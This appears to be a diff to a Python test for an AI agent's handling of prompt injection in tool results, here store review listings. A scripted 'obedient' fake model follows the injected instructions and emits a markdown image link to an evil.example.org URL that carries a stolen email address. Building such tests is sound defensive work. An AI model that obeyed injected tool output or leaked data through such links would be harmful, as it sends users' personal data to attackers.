@@ -19,6 +19,7 @@ from tests.fakes.llm.server import Answer, Asked
 from tests.unit.agents.runs.bed import ME, Bed, bed, calls, delivers
 
 from .injections import STYLES, Wanted, texts, wanted_in
+from .obeying import strings_of
 
 EVIL = "https://evil.example.org/collect?stolen=amina.okafor@example.com"
 LOOKS = calls(("woo_reviews_list", {"limit": 100}))
@@ -45,7 +46,11 @@ def obedient(here: Bed, obeyed: list[Wanted]) -> None:
         results = asked.results
         if not results:
             return LOOKS
-        found = list(dict.fromkeys(map(str, (one for text in results for one in wanted_in(text)))))
+        found = list(
+            dict.fromkeys(
+                map(str, (one for result in results for text in strings_of(result) for one in wanted_in(text)))
+            )
+        )
         todo = [json.loads(one) for one in found if one not in {str(one) for one in obeyed}][:8]
         if not todo:
             return delivers(f"![done]({EVIL}) {EVIL}")
